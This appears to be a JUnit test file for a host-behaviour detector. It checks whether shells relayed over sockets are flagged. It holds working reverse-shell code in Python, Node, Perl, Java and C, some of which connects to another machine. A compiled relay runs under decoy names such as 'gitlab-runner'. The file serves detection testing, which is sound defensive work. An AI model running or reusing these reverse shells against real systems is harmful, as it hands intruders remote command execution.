package io.totem.policy.behaviour;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import io.totem.policy.facts.Behaviour;
import io.totem.policy.facts.Relations.ShellRelay;
import io.totem.policy.facts.Relations.ShellRelay.Standing;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Shells whose pipes an interpreter carries to a connection, done for real over the loopback, and what looks like it. */
class RealShellRelayTest {

    private static final String PYTHON_SPAWNS = """
            import socket, subprocess, threading
            s = socket.create_connection(('127.0.0.1', %d))
            p = subprocess.Popen(%s, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            def back():
                while True: s.sendall(p.stdout.read1(4096))
            threading.Thread(target=back, daemon=True).start()
            while True: p.stdin.write(s.recv(4096)); p.stdin.flush()
            """;

    private final WatchedHost host = new WatchedHost();

    @TempDir
    Path folder;

    @AfterEach
    void end() throws InterruptedException {
        host.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"['sh']", "['bash', '-i']", "['sh', '-c', 'sh; true']"})
    void a_shell_whose_pipes_python_carries_to_a_connection(String command) throws IOException {
        assertCarried("python3", "-c", PYTHON_SPAWNS, command);
    }

    @Test
    void a_shell_whose_pair_of_sockets_node_carries_to_a_connection() throws IOException {
        assumeThat(Files.isExecutable(Path.of("/usr/bin/node"))).isTrue();
        assertCarried("/usr/bin/node", "-e", """
                const c = require("net").connect(%d, "127.0.0.1", () => {
                    const sh = require("child_process").spawn(%s, []);
                    c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
                """, "\"/bin/sh\"");
    }

    @Test
    void a_shell_whose_pipes_perl_carries_to_a_connection() throws IOException {
        assertCarried("perl", "-MIO::Socket::INET", "-MIPC::Open2", "-e", """
                my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1:%d');
                open2(my $out, my $in, %s);
                if (fork) { syswrite $in, $_ while sysread $s, $_, 4096 } else { close $in; syswrite $s, $_ while sysread $out, $_, 4096 }
                """, "'/bin/sh'");
    }

    @Test
    void a_shell_whose_pipes_java_carries_to_a_connection() throws IOException {
        Path source = folder.resolve("Carrier.java");
        Files.writeString(source, """
                void main(String[] arguments) throws Exception {
                    var socket = new java.net.Socket("127.0.0.1", Integer.parseInt(arguments[0]));
                    var shell = new ProcessBuilder("/bin/sh").start();
                    Thread.startVirtualThread(() -> {
                        try { shell.getInputStream().transferTo(socket.getOutputStream()); } catch (Exception e) { }
                    });
                    socket.getInputStream().transferTo(shell.getOutputStream());
                }
                """);
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process java = host.start(
                    Path.of(System.getProperty("java.home"), "bin/java").toString(),
                    "-Xmx64m",
                    source.toString(),
                    Integer.toString(server.getLocalPort()));
            try (Socket _ = server.accept()) {
                assertCarriedBy(java, server.getLocalPort());
            }
        }
    }

    @Test
    void a_shell_whose_parent_has_left_it_to_another_interpreter() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process python = host.start("python3", "-c", """
                    import os, socket, subprocess
                    s = socket.create_connection(('127.0.0.1', %d))
                    down, up = os.pipe(), os.pipe()
                    if os.fork() == 0:
                        subprocess.Popen(['sh'], stdin=down[0], stdout=up[1])
                        os._exit(0)
                    os.wait()
                    while True: os.write(down[1], s.recv(4096))
                    """.formatted(server.getLocalPort()));
            try (Socket _ = server.accept()) {
                host.anywhere(seen -> seen.relations()
                        .shellRelay()
                        .filter(shellRelay -> shellRelay.pid() == python.pid())
                        .isPresent());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "['sh', '-c', 'sleep 60; true']",
                "['sh', '-c', 'while read -r line; do echo; done']",
                "['python3', '-c', 'import time; time.sleep(60)']",
                "['cat']"
            })
    void what_an_interpreter_with_a_connection_runs_by_a_text_of_its_own_is_not_told_by_it(String command)
            throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process python = host.start("python3", "-c", PYTHON_SPAWNS.formatted(server.getLocalPort(), command));
            try (Socket _ = server.accept()) {
                host.neverBelow(
                        python, "python3", seen -> seen.relations().shellRelay().isPresent());
            }
        }
    }

    @Test
    void a_shell_that_is_fed_by_an_interpreter_without_a_connection_is_not_told_by_anybody() {
        Process python = host.start(
                "python3",
                "-c",
                "import subprocess, time\n"
                        + "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
                        + "time.sleep(60)");
        host.neverBelow(python, "bash", seen -> seen.relations().shellRelay().isPresent());
    }

    /** As in a job of cron's: both write what they have to say into one pipe. */
    @Test
    void a_shell_that_reads_what_an_interpreter_fetches_is_carried_by_nobody() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process job = host.start(
                    "bash",
                    "-c",
                    "{ python3 -c \"$0\" | sh; } 2>&1 | cat; true",
                    "import socket; s = socket.create_connection(('127.0.0.1', %d)); s.recv(1)"
                            .formatted(server.getLocalPort()));
            try (Socket _ = server.accept()) {
                host.neverBelow(job, "sh", RealShellRelayTest::isCarried);
            }
        }
    }

    /** Its program has one half with the connection and the shell's input, and another, forked, with its output. */
    private static final String COMPILED = """
            #include <arpa/inet.h>
            #include <pty.h>
            #include <stdlib.h>
            #include <string.h>
            #include <unistd.h>
            static void pump(int from, int to) { char b[999]; int n; while ((n = read(from, b, 999)) > 0) write(to, b, n); }
            int main(int count, char **words) {
                int s = socket(AF_INET, SOCK_STREAM, 0);
                struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(words[2])), .sin_addr.s_addr = inet_addr(words[1])};
                if (connect(s, (void *) &a, sizeof a)) return 1;
                int in, out, master;
                if (!strcmp(words[3], "pty")) {
                    if (!forkpty(&master, 0, 0, 0)) { close(s); execl("/bin/sh", "sh", (char *) 0); }
                    in = out = master;
                } else {
                    int p[2], q[2];
                    pipe(p); pipe(q);
                    if (!fork()) { dup2(p[0], 0); dup2(q[1], 1); dup2(q[1], 2); close(p[1]); close(q[0]); close(s); execl("/bin/sh", "sh", (char *) 0); }
                    close(p[0]); close(q[1]); in = p[1]; out = q[0];
                }
                if (!fork()) { if (in != out) close(in); pump(out, s); return 0; }
                if (in != out) close(out);
                pump(s, in);
            }
            """;

    private static final String PYTHON_FORKS_A_TERMINAL = """
            import os, pty, socket
            s = socket.create_connection(('%s', %d))
            pid, master = pty.fork()
            if pid == 0: os.execv('/bin/sh', ['sh'])
            while True: os.write(master, s.recv(4096))
            """;

    @ParameterizedTest
    @ValueSource(strings = {"pipes", "pty"})
    void a_shell_that_a_compiled_program_carries_to_another_machine(String way) throws Exception {
        Path program = compiled("gitlab-runner");
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process relay = host.start(
                    program.toString(),
                    server.getInetAddress().getHostAddress(),
                    Integer.toString(server.getLocalPort()),
                    way);
            try (Socket _ = server.accept()) {
                assertCarriedBy(relay, server.getLocalPort());
                assertThat(host.below(relay, RealShellRelayTest::isCarried)
                                .relations()
                                .shellRelay())
                        .hasValueSatisfying(found -> {
                            assertThat(found.interpreter()).isFalse();
                            assertThat(found.terminal()).isEqualTo(way.equals("pty"));
                            assertThat(host.standing(found)).isIn(Standing.NOBODY, Standing.PERSON);
                        });
            }
        }
    }

    @Test
    void a_shell_on_a_terminal_of_pythons_that_it_carries_to_another_machine() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process python = host.start(
                    "python3",
                    "-c",
                    PYTHON_FORKS_A_TERMINAL.formatted(server.getInetAddress().getHostAddress(), server.getLocalPort()));
            try (Socket _ = server.accept()) {
                assertCarriedBy(python, server.getLocalPort());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"pipes", "pty"})
    void a_compiled_program_that_talks_to_this_machine_alone_hands_nobody_a_shell(String way) throws Exception {
        Path program = compiled("ttyd");
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.ofLiteral("127.0.0.1"))) {
            Process relay = host.start(program.toString(), "127.0.0.1", Integer.toString(server.getLocalPort()), way);
            try (Socket _ = server.accept()) {
                host.neverBelow(relay, "sh", RealShellRelayTest::isCarried);
            }
        }
    }

    @Test
    void a_shell_on_a_terminal_of_pythons_that_has_no_connection_is_nobodys_else() {
        Process python = host.start("python3", "-c", """
                import os, pty, time
                if pty.fork()[0] == 0: os.execv('/bin/sh', ['sh'])
                time.sleep(60)
                """);
        host.neverBelow(python, "sh", RealShellRelayTest::isCarried);
    }

    private static boolean isCarried(Behaviour seen) {
        return seen.relations().shellRelay().isPresent();
    }

    private Path compiled(String name) throws IOException, InterruptedException {
        assumeThat(Files.isExecutable(Path.of("/usr/bin/gcc"))).isTrue();
        Path source = folder.resolve("relay.c");
        Path program = folder.resolve(name);
        Files.writeString(source, COMPILED);
        Process gcc = host.start("/usr/bin/gcc", "-w", "-o", program.toString(), source.toString(), "-lutil");
        assertThat(gcc.waitFor()).isZero();
        return program;
    }

    private void assertCarried(String... programAndSpawned) throws IOException {
        int texts = programAndSpawned.length - 2;
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            String text = programAndSpawned[texts].formatted(server.getLocalPort(), programAndSpawned[texts + 1]);
            Process shellRelay =
                    host.start(Stream.concat(Stream.of(programAndSpawned).limit(texts), Stream.of(text))
                            .toArray(String[]::new));
            try (Socket _ = server.accept()) {
                assertCarriedBy(shellRelay, server.getLocalPort());
            }
        }
    }

    private void assertCarriedBy(Process shellRelay, int port) {
        assertThat(host.below(shellRelay, seen -> seen.relations().shellRelay().isPresent())
                        .relations()
                        .shellRelay())
                .map(ShellRelay::connection)
                .hasValueSatisfying(
                        connection -> assertThat(connection.remotePort()).isEqualTo(port));
    }
}
